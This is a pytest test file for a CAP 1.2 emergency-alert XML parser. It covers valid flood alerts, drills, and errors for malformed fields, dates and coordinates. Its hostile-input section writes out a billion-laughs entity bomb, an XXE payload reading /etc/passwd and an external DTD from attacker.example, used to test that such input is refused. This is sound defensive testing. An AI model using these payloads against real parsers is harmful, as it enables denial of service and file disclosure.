"""CAP 1.2 parsing: valid alerts, drills, and hostile or malformed input (each a precise CapError)."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest

from app.domain.geo import Circle, GeoPoint, Polygon
from app.formats.cap import MAX_CAP_BYTES, CapError, alert_summary, parse_cap

NS = "urn:oasis:names:tc:emergency:cap:1.2"

AREA_BOTH = """
    <area>
      <areaDesc>Cheonggyecheon, Jung-gu</areaDesc>
      <polygon>37.5690,126.9770 37.5700,126.9900 37.5680,126.9900 37.5690,126.9770</polygon>
      <circle>37.5665,126.9780 0.5</circle>
      <geocode><valueName>KR-ADM</valueName><value>1114000000</value></geocode>
    </area>"""


def alert_xml(
    *,
    status: str = "Actual",
    msg_type: str = "Alert",
    sent: str = "2026-03-01T18:29:00+09:00",
    identifier: str = "KR-NDMS-2026-0042",
    area: str = AREA_BOTH,
    extra_alert: str = "",
    info: str | None = None,
    prolog: str = "",
    ns: str | None = NS,
) -> bytes:
    xmlns = f' xmlns="{ns}"' if ns else ""
    if info is None:
        info = f"""
  <info>
    <language>ko-KR</language>
    <category>Met</category>
    <category>Safety</category>
    <event>Flood warning</event>
    <responseType>Evacuate</responseType>
    <urgency>Immediate</urgency>
    <severity>Severe</severity>
    <certainty>Observed</certainty>
    <expires>2026-03-01T21:00:00+09:00</expires>
    <senderName>National Disaster Management</senderName>
    <headline>Cheonggyecheon water level rising</headline>
    <description>Water level at 2.1 m and rising.</description>
    <parameter><valueName>waterLevel</valueName><value>2.1</value></parameter>
    <resource><resourceDesc>Map</resourceDesc><mimeType>image/png</mimeType><size>1024</size>
      <uri>https://ndms.example/map.png</uri></resource>{area}
  </info>"""
    return f"""<?xml version="1.0" encoding="UTF-8"?>{prolog}
<alert{xmlns}>
  <identifier>{identifier}</identifier>
  <sender>ndms@safekorea.example</sender>
  <sent>{sent}</sent>
  <status>{status}</status>
  <msgType>{msg_type}</msgType>
  <scope>Public</scope>{extra_alert}{info}
</alert>""".encode()


# ---------------------------------------------------------------- valid input


def test_parses_a_full_alert_with_circle_and_polygon() -> None:
    alert = parse_cap(alert_xml())
    assert alert.identifier == "KR-NDMS-2026-0042"
    assert alert.sender == "ndms@safekorea.example"
    assert alert.sent == datetime(2026, 3, 1, 9, 29, tzinfo=UTC)
    assert alert.sent.utcoffset() == timedelta(hours=9)
    assert (alert.status, alert.msg_type, alert.scope) == ("Actual", "Alert", "Public")
    assert not alert.is_drill
    (info,) = alert.infos
    assert info.categories == ("Met", "Safety")
    assert (info.event, info.urgency, info.severity, info.certainty) == (
        "Flood warning",
        "Immediate",
        "Severe",
        "Observed",
    )
    assert info.language == "ko-KR"
    assert info.response_types == ("Evacuate",)
    assert info.headline == "Cheonggyecheon water level rising"
    assert info.description == "Water level at 2.1 m and rising."
    assert info.expires == datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
    assert info.parameter("waterLevel") == "2.1"
    assert info.resources[0].uri == "https://ndms.example/map.png" and info.resources[0].size == 1024
    (area,) = info.areas
    assert area.area_desc == "Cheonggyecheon, Jung-gu"
    assert area.geocodes == (("KR-ADM", "1114000000"),)
    assert area.circles[0].radius_km == 0.5
    assert area.polygons[0].points[0] == area.polygons[0].points[-1] == (37.569, 126.977)


def test_areas_convert_to_domain_geometry() -> None:
    alert = parse_cap(alert_xml())
    polygon, circle = alert.geo_areas()
    assert isinstance(polygon, Polygon) and isinstance(circle, Circle)
    assert circle.center == GeoPoint(37.5665, 126.978) and circle.radius_m == 500.0
    assert len(polygon.points) == 3  # the closing point is dropped: domain rings are implicit
    assert polygon.contains(GeoPoint(37.5690, 126.985))


@pytest.mark.parametrize(
    ("status", "drill"), [("Exercise", True), ("Test", True), ("System", False), ("Draft", False)]
)
def test_drills(status: str, drill: bool) -> None:
    assert parse_cap(alert_xml(status=status)).is_drill is drill


def test_update_with_references_and_incidents() -> None:
    extra = """
  <references>ndms@safekorea.example,KR-NDMS-2026-0041,2026-03-01T18:00:00+09:00</references>
  <incidents>FLOOD-7 FLOOD-8</incidents>"""
    alert = parse_cap(alert_xml(msg_type="Update", extra_alert=extra))
    (ref,) = alert.references
    assert ref.identifier == "KR-NDMS-2026-0041"
    assert ref.sent == datetime(2026, 3, 1, 9, 0, tzinfo=UTC)
    assert alert.incidents == ("FLOOD-7", "FLOOD-8")


def test_alert_without_info_and_utc_z_and_fractional_seconds() -> None:
    alert = parse_cap(alert_xml(info="", sent="2026-03-01T09:29:00.250Z"))
    assert alert.infos == ()
    assert alert.sent == datetime(2026, 3, 1, 9, 29, 0, 250000, tzinfo=UTC)


def test_summary_for_outbound_relay() -> None:
    summary = alert_summary(parse_cap(alert_xml(status="Exercise")))
    assert summary["identifier"] == "KR-NDMS-2026-0042"
    assert summary["sent"] == "2026-03-01T09:29:00+00:00"
    assert summary["status"] == "Exercise"
    assert summary["areas"] == ["Cheonggyecheon, Jung-gu"]


def test_ignores_foreign_elements_such_as_signatures() -> None:
    extra = '<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo/></Signature>'
    data = alert_xml().replace(b"</alert>", extra.encode() + b"</alert>")
    assert parse_cap(data).identifier == "KR-NDMS-2026-0042"


# ---------------------------------------------------------------- hostile input


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&lol4;</identifier></alert>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&xxe;</identifier></alert>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE alert SYSTEM "http://attacker.example/cap.dtd">
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>x</identifier></alert>"""


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (BILLION_LAUGHS, r"contains a DTD \(<!DOCTYPE lolz>\); DTDs are not allowed"),
        (EXTERNAL_ENTITY, r"contains a DTD \(<!DOCTYPE alert>\); DTDs are not allowed"),
        (EXTERNAL_DTD, r"contains a DTD \(<!DOCTYPE alert>\); DTDs are not allowed"),
        (alert_xml(prolog="\n<!DOCTYPE alert>"), r"contains a DTD"),
    ],
    ids=["billion-laughs", "external-entity", "external-dtd", "plain-dtd"],
)
def test_hostile_xml_is_refused(data: bytes, message: str) -> None:
    with pytest.raises(CapError, match=message) as info:
        parse_cap(data)
    assert "root:" not in info.value.detail  # nothing from /etc/passwd leaks into the error


def test_oversize_is_refused_before_parsing() -> None:
    data = alert_xml().replace(b"</alert>", b"<!--" + b"x" * MAX_CAP_BYTES + b"--></alert>")
    with pytest.raises(
        CapError, match=rf"CAP message is {len(data)} bytes; the limit is {MAX_CAP_BYTES} bytes"
    ):
        parse_cap(data)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "CAP message is empty"),
        (b"<alert", r"not well-formed XML \(line 1, column"),
        (
            alert_xml(ns="urn:oasis:names:tc:emergency:cap:1.1"),
            r"namespace 'urn:oasis:names:tc:emergency:cap:1.1'; only CAP 1.2",
        ),
        (alert_xml(ns=None), r"<alert> has no namespace; CAP 1.2 requires"),
        (f'<feed xmlns="{NS}"/>'.encode(), r"root element is <feed>; a CAP message must be an <alert>"),
    ],
    ids=["empty", "truncated", "cap-1.1", "no-namespace", "wrong-root"],
)
def test_not_cap_12(data: bytes, message: str) -> None:
    with pytest.raises(CapError, match=message):
        parse_cap(data)


def test_str_input_is_refused() -> None:
    with pytest.raises(CapError, match="must be bytes, got str"):
        parse_cap(alert_xml().decode())  # type: ignore[arg-type]


# ---------------------------------------------------------------- malformed elements


def _replace(old: str, new: str, **kwargs: str) -> bytes:
    data = alert_xml(**kwargs)
    assert old.encode() in data, old
    return data.replace(old.encode(), new.encode(), 1)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (_replace("<identifier>KR-NDMS-2026-0042</identifier>", ""), r"^alert/identifier is missing$"),
        (
            _replace("<sender>ndms@safekorea.example</sender>", "<sender> </sender>"),
            r"^alert/sender is empty$",
        ),
        (
            _replace(
                "<identifier>KR-NDMS-2026-0042</identifier>",
                "<identifier>a</identifier><identifier>b</identifier>",
            ),
            r"^alert/identifier appears 2 times; CAP allows it once$",
        ),
        (alert_xml(identifier="KR 42"), r"^alert/identifier 'KR 42' contains a space, comma"),
        (
            alert_xml(status="Real"),
            r"^alert/status 'Real' is not one of Actual, Exercise, System, Test, Draft$",
        ),
        (alert_xml(msg_type="Notify"), r"^alert/msgType 'Notify' is not one of"),
        (
            _replace("<scope>Public</scope>", "<scope>Restricted</scope>"),
            r"^alert/restriction is required when scope is Restricted$",
        ),
        (
            _replace("<scope>Public</scope>", "<scope>Private</scope>"),
            r"^alert/addresses is required when scope is Private$",
        ),
        (
            _replace("<category>Met</category>\n    <category>Safety</category>", ""),
            r"^alert/info\[1\]/category is missing",
        ),
        (
            _replace("<category>Met</category>", "<category>Weather</category>"),
            r"^alert/info\[1\]/category\[1\] 'Weather' is not one of",
        ),
        (_replace("<event>Flood warning</event>", ""), r"^alert/info\[1\]/event is missing$"),
        (
            _replace("<urgency>Immediate</urgency>", "<urgency>Now</urgency>"),
            r"^alert/info\[1\]/urgency 'Now' is not one of",
        ),
        (_replace("<severity>Severe</severity>", ""), r"^alert/info\[1\]/severity is missing$"),
        (
            _replace("<areaDesc>Cheonggyecheon, Jung-gu</areaDesc>", ""),
            r"^alert/info\[1\]/area\[1\]/areaDesc is missing$",
        ),
        (
            _replace("<mimeType>image/png</mimeType>", ""),
            r"^alert/info\[1\]/resource\[1\]/mimeType is missing$",
        ),
        (
            _replace("<size>1024</size>", "<size>1kB</size>"),
            r"^alert/info\[1\]/resource\[1\]/size '1kB' is not a whole number",
        ),
        (_replace("<value>2.1</value>", ""), r"^alert/info\[1\]/parameter\[1\]/value is missing$"),
    ],
    ids=[
        "no-identifier",
        "empty-sender",
        "two-identifiers",
        "identifier-space",
        "bad-status",
        "bad-msgtype",
        "restricted-without-restriction",
        "private-without-addresses",
        "no-category",
        "bad-category",
        "no-event",
        "bad-urgency",
        "no-severity",
        "no-areadesc",
        "resource-no-mimetype",
        "resource-bad-size",
        "parameter-no-value",
    ],
)
def test_missing_or_invalid_elements(data: bytes, message: str) -> None:
    with pytest.raises(CapError, match=message):
        parse_cap(data)


@pytest.mark.parametrize(
    ("sent", "message"),
    [
        ("2026-03-01T18:29:00", r"^alert/sent '2026-03-01T18:29:00' is not a CAP date-time"),
        ("2026-03-01 18:29:00+09:00", r"is not a CAP date-time"),
        ("yesterday", r"is not a CAP date-time"),
        ("2026-13-01T18:29:00+09:00", r"^alert/sent '2026-13-01T18:29:00\+09:00' is not a valid date-time"),
        ("2026-02-30T18:29:00+09:00", r"is not a valid date-time"),
    ],
)
def test_bad_dates(sent: str, message: str) -> None:
    with pytest.raises(CapError, match=message):
        parse_cap(alert_xml(sent=sent))


def test_bad_expires_names_the_info() -> None:
    data = _replace("<expires>2026-03-01T21:00:00+09:00</expires>", "<expires>soon</expires>")
    with pytest.raises(CapError, match=r"^alert/info\[1\]/expires 'soon' is not a CAP date-time"):
        parse_cap(data)


def test_bad_reference() -> None:
    extra = "<references>ndms@safekorea.example,KR-41</references>"
    with pytest.raises(
        CapError,
        match=r"^alert/references entry 1 'ndms@safekorea.example,KR-41' is not 'sender,identifier,sent'$",
    ):
        parse_cap(alert_xml(msg_type="Update", extra_alert=extra))


def _area(body: str) -> bytes:
    return alert_xml(area=f"<area><areaDesc>X</areaDesc>{body}</area>")


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (
            "<circle>91.0,126.9 1</circle>",
            r"^alert/info\[1\]/area\[1\]/circle\[1\]: latitude 91.0 is outside \[-90, 90\]$",
        ),
        ("<circle>37.5,181 1</circle>", r"circle\[1\]: longitude 181.0 is outside \[-180, 180\]$"),
        ("<circle>37.5,126.9</circle>", r"circle\[1\] '37.5,126.9' is not 'lat,lon radius_km'$"),
        ("<circle>37.5;126.9 1</circle>", r"circle\[1\]: '37.5;126.9' is not a 'lat,lon' pair$"),
        ("<circle>north,126.9 1</circle>", r"circle\[1\]: latitude 'north' is not a number$"),
        ("<circle>37.5,126.9 -2</circle>", r"circle\[1\]: radius '-2' km is negative$"),
        ("<circle>37.5,126.9 nan</circle>", r"circle\[1\]: radius 'nan' is not a number$"),
        ("<circle>37.5,126.9 1e999</circle>", r"circle\[1\]: radius '1e999' is not a finite number$"),
        (
            "<circle>37.5,126.9 1</circle><circle>37.5,126.9 x</circle>",
            r"^alert/info\[1\]/area\[1\]/circle\[2\]: radius 'x' is not a number$",
        ),
        (
            "<polygon>37.0,127.0 37.1,127.0 37.1,127.1 37.0,127.2</polygon>",
            r"polygon\[1\] is not closed: the first point 37.0,127.0 differs from the last 37.0,127.2$",
        ),
        (
            "<polygon>37.0,127.0 37.1,127.0 37.0,127.0</polygon>",
            r"polygon\[1\] has 3 points; a CAP polygon needs at least 4",
        ),
        (
            "<polygon>37.0,127.0 37.1,127.0 95.1,127.1 37.0,127.0</polygon>",
            r"polygon\[1\] point 3: latitude 95.1 is outside \[-90, 90\]$",
        ),
        (
            "<polygon>37.0,127.0 37.1,127.0 37.2,127.0 37.0,127.0</polygon>",
            r"polygon\[1\]: polygon has zero area",
        ),
    ],
    ids=[
        "lat-out-of-range",
        "lon-out-of-range",
        "circle-no-radius",
        "circle-bad-separator",
        "circle-word",
        "circle-negative-radius",
        "circle-nan",
        "circle-infinite",
        "second-circle",
        "polygon-open",
        "polygon-short",
        "polygon-bad-point",
        "polygon-degenerate",
    ],
)
def test_bad_coordinates(body: str, message: str) -> None:
    with pytest.raises(CapError, match=message):
        parse_cap(_area(body))


def test_error_is_a_value_error_with_detail() -> None:
    with pytest.raises(ValueError) as info:
        parse_cap(alert_xml(status="Real"))
    assert isinstance(info.value, CapError)
    assert info.value.detail == str(info.value)
